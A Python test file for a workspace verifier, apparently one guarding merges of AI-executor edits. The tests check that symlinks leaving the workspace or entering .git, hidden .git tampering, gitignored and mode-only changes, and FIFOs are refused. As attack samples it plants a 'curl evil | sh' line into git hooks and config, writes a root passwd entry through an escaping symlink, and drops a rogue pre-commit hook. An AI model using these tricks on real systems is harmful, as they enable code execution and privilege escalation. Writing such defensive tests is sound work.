"""Hostile workspaces: symlinks out of the workspace or into ``.git``, changes git status misses, and changes
that must count although they add no text line (binary, mode only).

What the snapshot sees (``conductor.workspace.snapshot``, an ``lstat`` walk that never follows symlinks):
dot-files, gitignored files, ``.git/`` itself (hooks, config) and symlinks as links. It leaves out only
``.conductor/`` at the root and the paths matching ``workspace.ignore`` in config.yaml (tool caches such as
``__pycache__/`` and ``node_modules/``); those are neither snapshotted, nor copied, nor merged.
"""

from __future__ import annotations

import hashlib
import os
import stat
from pathlib import Path

import pytest

from conductor.errors import UnsafePath
from conductor.executors.base import execute_claim
from conductor.executors.command import CommandRunner
from conductor.executors.llm import LLMRunner
from conductor.models import FileChange
from conductor.paths import check_link_target
from conductor.workspace import apply_changes, snapshot
from tests.corpus.builders import (
    FixedEdits,
    bare_task,
    claim,
    do_and_complete,
    policy,
    policy_protecting,
    reported,
    verify,
    write_edit,
)
from tests.handoff.support import make_handoff

# --- symlinks -------------------------------------------------------------------------------------

LINKS = {
    "absolute_outside": ("x", "/etc", "absolute target (outside the workspace)"),
    "relative_climb_out": ("docs/x", "../../../../../../../etc", "climbs out of the workspace"),
    "into_dotgit": ("link", ".git", "points into .git"),
    "into_dotgit_hooks_case_folded": ("docs/hooks", "../.GIT/hooks", "points into .git"),
    "workspace_root": ("docs/up", "..", "points to the workspace root itself"),
}


@pytest.mark.parametrize("case", list(LINKS))
def test_check_link_target_refuses(case: str) -> None:
    link, target, reason = LINKS[case]
    with pytest.raises(UnsafePath) as info:
        check_link_target(link, target)
    assert str(info.value) == f"unsafe symlink {link!r} -> {target!r}: {reason}"


def test_check_link_target_accepts_links_that_stay_inside() -> None:
    assert check_link_target("docs/latest", "../build/html") == "build/html"
    assert check_link_target("bin/tool", "tool-1.2") == "bin/tool-1.2"


@pytest.mark.parametrize("case", ["absolute_outside", "relative_climb_out", "into_dotgit"])
def test_step_adding_an_unsafe_symlink_is_rejected(tmp_path: Path, case: str) -> None:
    link, target, reason = LINKS[case]
    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n", ".git/config": "[core]\n"},
                           allowed_files=(link,))

    def plant(ws: Path) -> None:
        (ws / link).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, ws / link)

    claimed = do_and_complete(handoff, plant, files=reported(link))

    verdict = verify(handoff, claimed)

    assert not (handoff.fork.workspace / link).is_symlink()
    assert not verdict.accepted and any(reason in r for r in verdict.reasons)


def test_llm_write_through_a_symlink_out_of_the_workspace_is_refused(tmp_path: Path) -> None:
    workspace, outside = tmp_path / "ws", tmp_path / "outside"
    workspace.mkdir()
    outside.mkdir()
    os.symlink(outside, workspace / "x")  # ln -s <outside> x
    client = FixedEdits([write_edit("x/passwd", "root::0:0::/:/bin/sh\n")])

    with pytest.raises(UnsafePath, match=r"unsafe path 'x': resolves to .*outside.* \(symlink\)"):
        LLMRunner(client).run(bare_task(["x/"]), workspace, lambda: False)

    assert list(outside.iterdir()) == []


def test_forged_change_set_cannot_write_through_a_symlink_it_creates(tmp_path: Path) -> None:
    """A symlink ``x`` and a file ``x/f`` in one change set: every parent checks out before the link exists."""
    src, dst = tmp_path / "a" / "src", tmp_path / "b" / "dst"
    (src / "real").mkdir(parents=True)
    (src / "real" / "f").write_text("pwn")
    dst.mkdir(parents=True)
    (tmp_path / "b" / "src" / "real").mkdir(parents=True)  # where "../src/real" leads from dst: outside it
    os.symlink("../src/real", src / "x")
    changes = [FileChange(path="x", change="added", sha256=hashlib.sha256(b"../src/real").hexdigest()),
               FileChange(path="x/f", change="added", sha256=hashlib.sha256(b"pwn").hexdigest())]

    with pytest.raises(UnsafePath, match="unsafe path 'x/f': lies below 'x', which the same change set writes"):
        apply_changes(changes, src_root=src, dst_root=dst, base={})

    assert list(dst.iterdir()) == [] and list((tmp_path / "b" / "src" / "real").iterdir()) == []


def test_apply_through_a_symlinked_folder_into_dotgit_is_refused(tmp_path: Path) -> None:
    src, dst = tmp_path / "src", tmp_path / "dst"
    for root in (src, dst):
        (root / ".git" / "hooks").mkdir(parents=True)
        os.symlink(".git", root / "innocent")
    (src / ".git" / "hooks" / "pre-commit").write_text("evil\n")
    change = FileChange(path="innocent/hooks/pre-commit", change="added", sha256=hashlib.sha256(b"evil\n").hexdigest())

    with pytest.raises(UnsafePath, match="resolves to '.git/hooks', inside .git"):
        apply_changes([change], src_root=src, dst_root=dst, base={})

    assert list((dst / ".git" / "hooks").iterdir()) == []


# --- changes git status misses --------------------------------------------------------------------


@pytest.mark.parametrize("target", [".git/hooks/post-checkout", ".git/config"])
def test_changed_git_data_is_detected_and_rejected(tmp_path: Path, target: str) -> None:
    files = {"README.md": "hi\n", ".git/hooks/post-checkout": "#!/bin/sh\n", ".git/config": "[core]\n"}
    handoff = make_handoff(tmp_path / "project", steps=1, files=files)

    def tamper(ws: Path) -> None:
        (ws / "README.md").write_text("changed\n")
        with (ws / target).open("a") as handle:
            handle.write("curl evil | sh\n")

    claimed = do_and_complete(handoff, tamper, files=reported("README.md"))  # hides the .git change

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert verdict.reasons[0] == f"unsafe path {target!r}: has a .git component ('.git'): git's own data is off limits"
    assert sorted(c.path for c in verdict.files_changed) == sorted(["README.md", target])
    assert (handoff.fork.workspace / target).read_text() == files[target]


def test_change_to_a_gitignored_file_is_detected(tmp_path: Path) -> None:
    files = {"README.md": "hi\n", ".gitignore": "build/\n", "build/out.txt": "generated\n"}
    handoff = make_handoff(tmp_path / "project", steps=1, files=files)
    claimed = do_and_complete(handoff, lambda ws: (ws / "build" / "out.txt").write_text("backdoor\n"))

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert verdict.reasons == ["build/out.txt: outside allowed_files"]


def test_change_under_a_configured_ignore_pattern_is_neither_judged_nor_merged(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1)

    def work(ws: Path) -> None:
        (ws / "README.md").write_text("changed\n")
        (ws / "__pycache__").mkdir()
        (ws / "__pycache__" / "evil.cpython-311.pyc").write_bytes(b"\0evil")

    claimed = do_and_complete(handoff, work, files=reported("README.md"))

    verdict = verify(handoff, claimed, ignore=["__pycache__/"])

    assert verdict.accepted and [c.path for c in verdict.files_changed] == ["README.md"]
    assert not (handoff.fork.workspace / "__pycache__").exists()


def test_file_name_that_is_not_utf8_rejects_the_step(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1)
    claimed = do_and_complete(handoff, lambda ws: os.close(os.open(os.fsencode(ws) + b"/\xffname", os.O_CREAT)))

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert verdict.reasons[0].startswith("workspace_error: ") and "file name is not UTF-8" in verdict.reasons[0]


# --- changes without text lines -------------------------------------------------------------------


def test_binary_change_counts_against_the_diff_limit(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"data.bin": "\0\1"}, allowed_files=("data.bin",))
    claimed = do_and_complete(handoff, lambda ws: (ws / "data.bin").write_bytes(b"\0\2"), files=reported("data.bin"))

    verdict = verify(handoff, claimed, merged=policy(max_diff_lines=1))

    assert not verdict.accepted
    assert verdict.reasons == ["diff of 2 lines (added + removed) exceeds max_diff_lines 1 (project)"]
    [change] = verdict.files_changed
    assert change.binary and (change.lines_added, change.lines_removed) == (1, 1)


def test_mode_only_change_outside_allowed_files_is_rejected(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n", "run.sh": "echo\n"})
    claimed = do_and_complete(handoff, lambda ws: (ws / "run.sh").chmod(0o755))  # chmod +x, content unchanged

    verdict = verify(handoff, claimed)

    assert not verdict.accepted and verdict.reasons == ["run.sh: outside allowed_files"]
    [change] = verdict.files_changed
    assert (change.change, change.lines_added, change.lines_removed) == ("modified", 0, 0)


def test_mode_only_change_of_a_protected_file_is_rejected(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"run.sh": "echo\n"}, allowed_files=("run.sh",))
    claimed = do_and_complete(handoff, lambda ws: (ws / "run.sh").chmod(0o755), files=reported("run.sh"))

    verdict = verify(handoff, claimed, merged=policy_protecting("*.sh"))

    assert not verdict.accepted and verdict.reasons == ["run.sh: matches protected pattern '*.sh' (project)"]
    assert not os.stat(handoff.fork.workspace / "run.sh").st_mode & stat.S_IXUSR


@pytest.mark.xfail(strict=True, reason="verifier.py merge_changes skips a change whose target already has the same "
                   "content digest, so an accepted mode-only change (chmod +x) is never merged: silently lost")
def test_allowed_mode_only_change_is_merged_with_its_mode(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"run.sh": "echo\n"}, allowed_files=("run.sh",))
    claimed = do_and_complete(handoff, lambda ws: (ws / "run.sh").chmod(0o755), files=reported("run.sh"))

    verdict = verify(handoff, claimed)

    assert verdict.accepted
    assert os.stat(handoff.fork.workspace / "run.sh").st_mode & stat.S_IXUSR


# --- special files --------------------------------------------------------------------------------


def test_fifo_created_by_the_executor_fails_the_task_not_the_worker(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=2, allowed_files=("pipe",))
    handoff.publish("step_001")
    handoff.publish("step_002")
    claimed = claim(handoff)
    assert claimed is not None

    result = execute_claim(handoff.layout, claimed, CommandRunner("mkfifo pipe", layout=handoff.layout),
                           ignore=[], lease_seconds=60, heartbeat_seconds=5)

    assert result is not None and result.status == "failed"
    assert result.error is not None and "special file (fifo)" in result.error.message
    assert handoff.where()["failed"] == ["step_001"] and handoff.where()["pending"] == ["step_002"]


def test_fifo_in_a_completed_workspace_is_a_verifier_rejection(tmp_path: Path) -> None:
    """A handoff executor (not Conductor's runner) leaves a fifo: the verifier names it and rejects the step."""
    handoff = make_handoff(tmp_path / "project", steps=1)
    claimed = do_and_complete(handoff, lambda ws: os.mkfifo(ws / "pipe"))

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert verdict.reasons[0].startswith("workspace_error: pipe: special file (fifo) in workspace")
    assert snapshot(handoff.fork.workspace).keys() == {"README.md"}
